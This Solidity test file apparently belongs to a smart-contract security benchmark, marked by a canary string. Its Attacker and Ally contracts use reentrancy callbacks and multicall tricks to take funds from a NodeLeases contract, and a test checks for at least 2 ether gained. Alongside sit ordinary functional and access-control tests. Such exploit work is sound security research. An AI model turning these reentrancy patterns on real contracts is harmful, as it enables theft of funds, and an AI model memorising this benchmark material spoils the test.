// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./NodeLeases.sol";
import {IAccessControl} from "@openzeppelin/contracts@5.4.0/access/IAccessControl.sol";
import {Errors} from "@openzeppelin/contracts@5.4.0/utils/Errors.sol";

// assay-canary-e3972540-072a-445b-8441-80f6880ecebb

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

/// A tenant whose account is a contract. Tries everything that a call back in the middle of a payment allows.
contract Attacker {
    NodeLeases internal leases;
    uint256 internal mode;
    uint256 internal depth;
    uint256 internal at;
    Ally internal ally;

    constructor(NodeLeases leases_) {
        leases = leases_;
        ally = new Ally(leases_);
    }

    receive() external payable {
        if (msg.sender != address(leases) || depth >= 3) return;
        ++depth;
        if (mode == 1) _try(abi.encodeCall(leases.terminate, (at)), 0);
        if (mode == 2) {
            _try(abi.encodeCall(leases.transferLease, (at, address(ally))), 0);
            ally.terminate(at);
        }
        if (mode == 3) _try(abi.encodeCall(leases.extend, (at, 2)), 2 * uint256(leases.dailyRate()));
        if (mode == 4) _try(abi.encodeCall(leases.clear, (at)), 0);
        if (mode == 5) _try(abi.encodeCall(leases.lease, (at, 1)), leases.dailyRate() + 1 ether);
    }

    function _try(bytes memory data, uint256 value) internal returns (bool ok) {
        (ok, ) = address(leases).call{value: value}(data);
    }

    function _lease(uint256 how) internal returns (bool) {
        mode = how;
        depth = 0;
        at = 10 + how;
        return _try(abi.encodeCall(leases.lease, (at, 4)), 4 * uint256(leases.dailyRate()) + 1 ether);
    }

    function early() external {
        for (uint256 how = 1; how <= 5; ++how) {
            if (_lease(how)) _try(abi.encodeCall(leases.terminate, (at)), 0);
            mode = 0;
            _try(abi.encodeCall(leases.terminate, (at)), 0);
        }
        // one lease terminated twice in one call
        if (_lease(6)) {
            bytes[] memory calls = new bytes[](2);
            calls[0] = abi.encodeCall(leases.terminate, (at));
            calls[1] = calls[0];
            _try(abi.encodeCall(leases.multicall, (calls)), 0);
            // one payment for two nodes
            calls[0] = abi.encodeCall(leases.lease, (20, 1));
            calls[1] = abi.encodeCall(leases.lease, (21, 1));
            _try(abi.encodeCall(leases.multicall, (calls)), leases.dailyRate() + 1 ether);
            _try(abi.encodeCall(leases.terminate, (at)), 0);
        }
        // other people's
        for (uint256 b = 0; b < 6; ++b) {
            _try(abi.encodeCall(leases.terminate, (b)), 0);
            _try(abi.encodeCall(leases.transferLease, (b, address(this))), 0);
            _try(abi.encodeCall(leases.clear, (b)), 0);
        }
        _try(abi.encodeCall(leases.collect, (payable(address(this)))), 0);
        // to be overdue later
        _lease(4);
    }

    function late() external {
        depth = 0;
        mode = 4;
        at = 14;
        _try(abi.encodeCall(leases.clear, (at)), 0);
        _try(abi.encodeCall(leases.terminate, (at)), 0);
    }
}

contract Ally {
    NodeLeases internal leases;
    address internal boss;

    constructor(NodeLeases leases_) {
        leases = leases_;
        boss = msg.sender;
    }

    receive() external payable {}

    function terminate(uint256 at) external {
        (bool ok, ) = address(leases).call(abi.encodeCall(leases.terminate, (at)));
        if (ok) payable(boss).transfer(address(this).balance);
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));

    NodeLeases private leases;
    Attacker private mallory;
    address private constant TORA = address(0x70A);

    receive() external payable {}

    function setUp() public {
        vm.warp(1_760_000_000);
        vm.deal(address(this), 50 ether);
        leases = new NodeLeases(address(this), 24, 0.1 ether);
        mallory = new Attacker(leases);
        vm.deal(address(mallory), 4 ether);
        vm.deal(TORA, 10 ether);
        for (uint256 b = 0; b < 6; ++b) {
            leases.lease{value: 3 ether}(b, 20);
        }
    }

    function test_Regular() public {
        vm.prank(TORA);
        leases.lease{value: 1.5 ether}(7, 5);
        vm.prank(TORA);
        (bool ok, ) = address(leases).call{value: 1.5 ether}(abi.encodeCall(leases.lease, (7, 5)));
        require(!ok, "leased");
        vm.prank(TORA);
        leases.extend{value: 0.2 ether}(7, 2);
        vm.warp(block.timestamp + 2.5 days);
        vm.prank(TORA);
        require(leases.terminate(7) == 1.4 ether, "four days and the deposit");
        require(TORA.balance == 9.7 ether && leases.revenue() == 0.3 ether, "three days earned");

        vm.prank(TORA);
        leases.lease{value: 1.1 ether}(8, 1);
        vm.prank(TORA);
        leases.transferLease(8, address(this));
        (ok, ) = address(leases).call(abi.encodeCall(leases.clear, (8)));
        require(!ok, "not overdue");
        vm.warp(block.timestamp + 1 days + 1 hours);
        require(leases.terminate(8) == 0.9 ether, "a day late");

        vm.prank(TORA);
        leases.lease{value: 1.1 ether}(8, 1);
        vm.warp(block.timestamp + 4 days + 1);
        uint256 before = address(this).balance;
        leases.clear(8);
        require(address(this).balance == before + 0.25 ether, "reward");
        require(leases.revenue() == 0.5 ether + 0.85 ether, "revenue");
        bytes[] memory calls = new bytes[](2);
        calls[0] = abi.encodeCall(leases.setDailyRate, (0.2 ether));
        calls[1] = abi.encodeCall(leases.collect, (payable(address(this))));
        leases.multicall(calls);
        require(leases.revenue() == 0 && leases.dailyRate() == 0.2 ether, "collected");
        require(address(leases).balance == 18 ether, "what was paid for six nodes");
        bytes32 role = leases.MANAGER_ROLE();
        leases.grantRole(role, TORA);
        vm.prank(TORA);
        leases.setDailyRate(0.1 ether);
        leases.revokeRole(role, TORA);
        leases.renounceRole(role, address(this));
        require(!leases.hasRole(role, TORA) && !leases.hasRole(role, address(this)), "roles");
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// A lease is its tenant's, and the revenue the manager's.
    function test_RefusesStrangers() public {
        bytes memory notHis = "NodeLeases: not the tenant";
        bytes memory noRole =
            abi.encodeWithSelector(IAccessControl.AccessControlUnauthorizedAccount.selector, TORA, leases.MANAGER_ROLE());
        refuses(TORA, notHis);
        leases.extend{value: 0.2 ether}(0, 2);
        refuses(TORA, notHis);
        leases.transferLease(0, TORA);
        refuses(TORA, notHis);
        leases.terminate(0);
        refuses(TORA, noRole);
        leases.collect(payable(TORA));
        refuses(TORA, noRole);
        leases.setDailyRate(1);
        bytes[] memory calls = new bytes[](1);
        calls[0] = abi.encodeCall(leases.setDailyRate, (1));
        refuses(TORA, noRole);
        leases.multicall(calls);
    }

    /// Nodes, periods and payments that are none.
    function test_RefusesLeases() public {
        bytes memory period = "NodeLeases: bad period";
        vm.expectRevert("NodeLeases: no such node");
        leases.lease{value: 1.1 ether}(24, 1);
        vm.expectRevert("NodeLeases: node is leased");
        leases.lease{value: 1.1 ether}(0, 1);
        vm.expectRevert(period);
        leases.lease{value: 1 ether}(9, 0);
        vm.expectRevert(period);
        leases.lease{value: 4.1 ether}(9, 31);
        vm.expectRevert("NodeLeases: wrong payment");
        leases.lease{value: 1 ether}(9, 1);
        vm.expectRevert(period);
        leases.extend{value: 1.1 ether}(0, 11);
        vm.expectRevert("NodeLeases: wrong payment");
        leases.extend(0, 2);
        vm.expectRevert("NodeLeases: no tenant");
        leases.transferLease(0, address(0));
        vm.expectRevert("NodeLeases: node is free");
        leases.clear(9);
        vm.warp(block.timestamp + 23 days);
        vm.expectRevert("NodeLeases: not overdue");
        leases.clear(0);
        vm.expectRevert(abi.encodeWithSelector(Errors.FailedCall.selector));
        leases.collect(payable(address(leases)));
    }

    function exploit() public {
        mallory.early();
        vm.warp(block.timestamp + 8 days);
        mallory.late();
    }

    function test_Exploit() public {
        uint256 before = address(mallory).balance;
        exploit();
        require(address(mallory).balance >= before + 2 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(leases);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}
